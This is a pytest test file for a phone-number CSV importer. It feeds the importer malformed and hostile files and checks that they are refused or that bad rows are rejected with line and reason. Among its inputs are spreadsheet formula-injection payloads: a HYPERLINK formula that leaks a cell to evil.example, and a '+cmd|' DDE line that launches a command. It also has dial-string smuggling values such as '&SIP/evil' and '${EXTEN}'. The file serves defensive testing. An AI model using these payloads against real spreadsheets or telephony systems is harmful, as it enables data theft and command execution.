"""Hostile CSV files: each is refused with a message naming the file and the place, or its bad
rows are rejected with their line and reason, and nothing is written half-way.

File-level refusals leave every table as it was and no rejects file (nor its temporary file)
behind. Row-level rejections import the good rows, count every row once, and write the bad
ones to the rejects file with formula-like cells neutralised (a leading ').
"""
import csv
import json
import os

import pytest

from agi_campaign import importer
from agi_campaign.errors import CsvImportError
from agi_campaign.models import ImportBatch, Number

from tests.hostile.support import NOW, files_in, make_campaign, row_counts

GOOD_A = "+1 202-555-0101"
GOOD_B = "(202) 555-0102"
E164_A, E164_B = "+12025550101", "+12025550102"


def run(campaign, path, **kwargs):
    report = importer.import_csv(campaign.id, path, "US", (), NOW, **kwargs)
    assert report.rows == report.imported + report.duplicates + report.invalid + report.dnc
    return report


# ---- whole-file refusals -------------------------------------------------------------------

def _data(content):
    def make(folder):
        path = folder / "in.csv"
        path.write_bytes(content)
        return str(path)
    return make


def _directory(folder):
    path = folder / "in.csv"
    path.mkdir()
    return str(path)


def _missing(folder):
    return str(folder / "in.csv")


def _bytes(text, encoding):
    return text.encode(encoding)


HEADER = "phone,name\n"
FILE_ERRORS = [
    ("latin1", _data(_bytes(HEADER + "2025550101,Ana\n2025550102,Jos\xe9\n", "latin-1")),
     ["in.csv line 3", "not UTF-8", "0xe9", "--encoding cp1252", "save it as CSV UTF-8"]),
    ("cp1252-smart-quotes", _data(_bytes(HEADER + "2025550101,\u201cAna\u201d\n", "cp1252")),
     ["in.csv line 2", "not UTF-8", "0x93"]),
    # UTF-16 with a BOM is read (Excel's "Unicode Text"): test_importer covers it.
    ("utf16-no-bom", _data(_bytes(HEADER + "2025550101,Ana\n", "utf-16-le")),
     ["in.csv line 1", "NUL byte", "binary"]),
    ("shift-jis", _data(_bytes("\u96fb\u8a71,\u540d\u524d\n2025550101,\u7530\u4e2d\n",
                               "shift_jis")),
     ["in.csv line 1", "not UTF-8", "save it as CSV UTF-8"]),
    ("binary-png", _data(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))),
     ["in.csv line 3", "byte offset 8", "NUL byte"]),
    ("nul-in-line-3", _data(b"phone\n2025550101\n20255\x0050102\n"),
     ["in.csv line 3", "byte offset 22", "NUL byte"]),
    ("invalid-utf8-late", _data(b"phone\n" + b"2025550101\n" * 4 + b"\xff\xfe2025550199\n"),
     ["in.csv line 6", "not UTF-8", "0xff"]),
    ("truncated-utf8", _data(b"phone,name\n2025550101,caf\xc3"),
     ["in.csv line 2", "not UTF-8", "0xc3"]),
    ("a-directory", _directory, ["in.csv", "cannot read the file"]),
    ("missing-file", _missing, ["in.csv", "cannot read the file", "No such file"]),
    ("duplicate-header", _data(b"phone,name,Name\n2025550101,a,b\n"),
     ["in.csv line 1", "'Name' appears twice"]),
    ("header-too-long", _data(("phone," + "h" * 500 + "\n2025550101,x\n").encode()),
     ["in.csv line 1", "longer than 100 characters"]),
    ("stray-quote-swallows-rows", _data(b'phone,name\n2025550100,Ann\n2025550101,"Smith\n'
                                        b"2025550102,Lee\n2025550103,Kim\n2025550104,Bo\n"),
     ["in.csv line 3", "over line 4", "stray \" quote", "import again"]),
    ("stray-quote-swallows-10000-rows", _data(("phone\n\"2025550100\n" + "".join(
        "+1212555%04d\n" % i for i in range(10000))).encode()),
     ["in.csv line 2", "over line 3", "stray \" quote"]),
    ("quote-never-closed", _data(b'phone,name\n2025550101,"Smith\nnot a row\n'),
     ["in.csv line 2", "never closed", "line 3", "stray \" quote"]),
]


@pytest.mark.parametrize("make,expected", [c[1:] for c in FILE_ERRORS],
                         ids=[c[0] for c in FILE_ERRORS])
def test_hostile_csv_file_refused_and_nothing_written(sqlite_db, work, make, expected):
    campaign = make_campaign()
    path = make(work)
    before_files, before_rows = files_in(work), row_counts()
    with pytest.raises(CsvImportError) as err:
        run(campaign, path)
    message = str(err.value)
    for part in expected:
        assert part in message, message
    assert "\n" not in message and len(message) < 400
    assert row_counts() == before_rows
    assert files_in(work) == before_files      # no rejects file, no temporary file


def test_hostile_csv_unknown_phone_column_names_the_headers(sqlite_db, work):
    campaign = make_campaign()
    path = _data(b"tel,name\n2025550101,a\n")(work)
    before = row_counts()
    with pytest.raises(CsvImportError, match=r"in.csv: --phone-column mobile: no column named "
                                             r"'mobile'; the first row has: tel, name"):
        run(campaign, path, phone_column="mobile")
    assert row_counts() == before and files_in(work) == {"in.csv"}


def test_hostile_csv_rejects_path_in_missing_folder(sqlite_db, work):
    campaign = make_campaign()
    path = _data(b"phone\n2025550101\nnope\n")(work)
    before = row_counts()
    with pytest.raises(CsvImportError, match="cannot write the rejects file there"):
        run(campaign, path, rejects_path=str(work / "no" / "such" / "r.csv"))
    assert row_counts() == before and files_in(work) == {"in.csv"}


def test_hostile_csv_progress_failure_rolls_everything_back(db, work):
    campaign = make_campaign()
    path = _data(("phone\n" + "".join("202555%04d\n" % (100 + i) for i in range(50))
                  + "bad\n").encode())(work)
    before = row_counts()

    def progress(*_):
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        run(campaign, path, progress=progress)
    assert row_counts() == before and files_in(work) == {"in.csv"}


# ---- rows that are rejected; the good rows around them are imported -----------------------

def _row(*cells):
    out = []
    for cell in cells:
        if any(ch in cell for ch in ',"\n\r'):
            cell = '"%s"' % cell.replace('"', '""')
        out.append(cell)
    return ",".join(out)


ROW_REJECTS = [
    ("letters", "202-555-01AB", "contains letters"),
    ("vanity", "1-800-FLOWERS", "contains letters"),
    ("extension", "+1 202 555 0123 ext 5", "contains letters"),
    ("at-sign", "2025550123@evil", "contains '@'"),
    ("slash", "202/555/0123", "contains '/'"),
    ("ampersand", "2025550123&SIP/evil", "contains '&'"),
    ("comma-quoted", "202,555,0123", "contains ','"),
    ("semicolon", "2025550123;9", "contains ';'"),
    ("embedded-newline", "202\n5550123", "contains '\\n'"),
    ("embedded-cr", "202\r5550123", "contains '\\r'"),
    ("arabic-indic-digits", "\u0662\u0660\u0662\u0665\u0665\u0665\u0660\u0661\u0662\u0663",
     "contains '\u0662'"),
    ("arabic-short", "\u0661\u0662\u0663", "contains '\u0661'"),
    ("full-width-digits", "\uff12\uff10\uff12\uff15\uff15\uff15\uff10\uff11\uff12\uff13",
     "contains '\uff12'"),
    ("escape-sequence", "\x1b[31m2025550123", "contains '\\x1b'"),
    ("zero-width-space", "202555\u200b0123", "contains '\\u200b'"),
    ("rtl-override", "\u202e2025550123", "contains '\\u202e'"),
    ("dollar-variable", "${EXTEN}2025550123", "contains '$'"),
    ("plus-inside", "202+5550123", "'+' is allowed only at the start"),
    ("only-punctuation", "(-)", "no digits"),
    ("too-long", "2" * 65, "longer than 64 characters"),
    ("too-short", "911", "too short"),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "contains"),
    ("formula-cmd", "+cmd|' /C calc'!A0", "contains letters"),
    ("formula-at", "@SUM(1)", "contains '@'"),
    ("formula-minus", "-2+3", "'+' is allowed only at the start"),
    ("huge-phone-field", "2" * 5000, "field 1 longer than 1000 characters"),
]


@pytest.mark.parametrize("raw,reason", [c[1:] for c in ROW_REJECTS],
                         ids=[c[0] for c in ROW_REJECTS])
def test_hostile_csv_row_rejected_with_line_and_reason(sqlite_db, work, raw, reason):
    campaign = make_campaign()
    text = "phone,name\n%s\n%s\n%s\n" % (_row(GOOD_A, "a"), _row(raw, "=evil()"),
                                          _row(GOOD_B, "b"))
    path = work / "in.csv"
    path.write_text(text, encoding="utf-8", newline="")
    report = run(campaign, str(path))
    assert (report.rows, report.imported, report.invalid) == (3, 2, 1)
    assert [n.phone for n in Number.select().order_by(Number.id)] == [E164_A, E164_B]
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        rejects = list(csv.reader(fh))
    assert rejects[0] == ["line", "raw", "reason", "phone", "name"]
    assert len(rejects) == 2
    line, stored_raw, why, cell, name = rejects[1]
    assert line == "3" and reason in why, rejects[1]
    for value in (stored_raw, cell, name):         # a spreadsheet shows these as text
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert name == "'=evil()"


def test_hostile_csv_formula_cells_kept_as_data_and_neutralised_in_rejects(db, work):
    formulas = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1)",
                "-2+3", "\t=1+1"]
    rows = ["phone,f1,f2,f3,f4,f5", _row(GOOD_A, *formulas), _row("not a number", *formulas),
            _row(GOOD_A, *formulas)]
    path = work / "in.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8", newline="")
    campaign = make_campaign()
    report = run(campaign, str(path))
    assert (report.rows, report.imported, report.invalid, report.duplicates) == (3, 1, 1, 1)
    extra = json.loads(Number.get().extra)
    assert extra == dict(zip(["f1", "f2", "f3", "f4", "f5"], formulas))   # data, unchanged
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        rejects = list(csv.reader(fh))
    assert [r[0] for r in rejects[1:]] == ["3", "4"]
    for row in rejects[1:]:
        assert row[-5:] == ["'" + f for f in formulas]
        assert row[2].startswith(("contains letters", "duplicate of line 2"))


def _text_file(work, text):
    path = work / "in.csv"
    path.write_text(text, encoding="utf-8", newline="")
    return str(path)


def test_hostile_csv_one_megabyte_single_line(sqlite_db, work):
    campaign = make_campaign()
    path = _text_file(work, "2025550101," + "x" * 1_000_000)
    report = run(campaign, path)
    assert (report.rows, report.invalid, report.imported) == (1, 1, 0)
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        rejects = list(csv.reader(fh))
    assert rejects[1][:3] == ["1", "2025550101", "field 2 longer than 1000 characters"]
    assert os.path.getsize(report.rejects_path) < 5000       # cells are cut in the report


def test_hostile_csv_record_over_10000_chars_of_short_fields(sqlite_db, work):
    campaign = make_campaign()
    wide = ",".join(["y" * 900] * 12)
    path = _text_file(work, "phone,%s\n%s,%s\n" % (
        ",".join("c%d" % i for i in range(12)), GOOD_A, wide))
    report = run(campaign, path)
    assert (report.rows, report.invalid) == (1, 1)
    assert Number.select().count() == 0


def test_hostile_csv_10000_columns_header_keeps_20(sqlite_db, work):
    campaign = make_campaign()
    path = _text_file(work, "phone," + ",".join("c%d" % i for i in range(9999)) + "\n"
                      "2025550101\n")
    report = run(campaign, path)
    assert (report.rows, report.imported) == (1, 1)
    assert json.loads(Number.get().extra) == {"c%d" % i: "" for i in range(20)}
    assert "9979 more columns not kept (at most 20 are stored)" in report.read_as


def test_hostile_csv_25_columns_without_header_keep_20(sqlite_db, work):
    campaign = make_campaign()
    report = run(campaign, _text_file(work, "2025550101" + ",1" * 25 + "\n2025550102\n"))
    assert (report.rows, report.imported, report.invalid) == (2, 2, 0)


@pytest.mark.parametrize("columns,reason", [(9999, "record longer than 10000 characters")])
def test_hostile_csv_many_columns_without_header(sqlite_db, work, columns, reason):
    campaign = make_campaign()
    path = _text_file(work, "2025550101" + ",1" * columns + "\n2025550102\n")
    report = run(campaign, path)
    assert (report.rows, report.imported, report.invalid) == (2, 1, 1)
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        assert reason in list(csv.reader(fh))[1][2]


def test_hostile_csv_extra_column_over_1000_chars(sqlite_db, work):
    campaign = make_campaign()
    path = _text_file(work, "phone,note\n%s,%s\n" % (GOOD_A, "n" * 1001))
    report = run(campaign, path)
    assert report.invalid == 1 and Number.select().count() == 0


def test_hostile_csv_more_cells_than_header(sqlite_db, work):
    campaign = make_campaign()
    path = _text_file(work, "phone,name\n202 555 0101,Smith, John\n")
    report = run(campaign, path)
    assert report.invalid == 1
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        assert "3 fields but the header has 2" in list(csv.reader(fh))[1][2]


@pytest.mark.parametrize("text", ["", "\ufeff", "\n\n\r\n", ",,,\n , ,\n", "phone,name\n",
                                  "phone,name\n\n,\n  ,  \n"],
                         ids=["empty", "bom-only", "blank-lines", "blank-cells", "header-only",
                              "header-and-blanks"])
def test_hostile_csv_no_data_rows(sqlite_db, work, text):
    campaign = make_campaign()
    report = run(campaign, _text_file(work, text))
    assert (report.rows, report.imported, report.rejects_path) == (0, 0, None)
    assert Number.select().count() == 0 and ImportBatch.select().count() == 1
    assert files_in(work) == {"in.csv"}


def test_hostile_csv_tabs_and_odd_line_ends(sqlite_db, work):
    campaign = make_campaign()
    path = work / "in.csv"
    path.write_bytes(b"phone\r202\t555\t0101\r\"202 555\r\n0102\"\r\n00 1 202 555 0103\n")
    report = run(campaign, str(path))
    assert (report.rows, report.imported, report.invalid) == (3, 1, 2)
    assert [n.phone for n in Number.select()] == ["+12025550103"]
    with open(report.rejects_path, newline="", encoding="utf-8") as fh:
        rejects = [r[:3] for r in csv.reader(fh)][1:]
    assert rejects == [["2", "202\t555\t0101", "not a number"],
                       ["3", "202 555\r\n0102", "contains '\\r'"]]
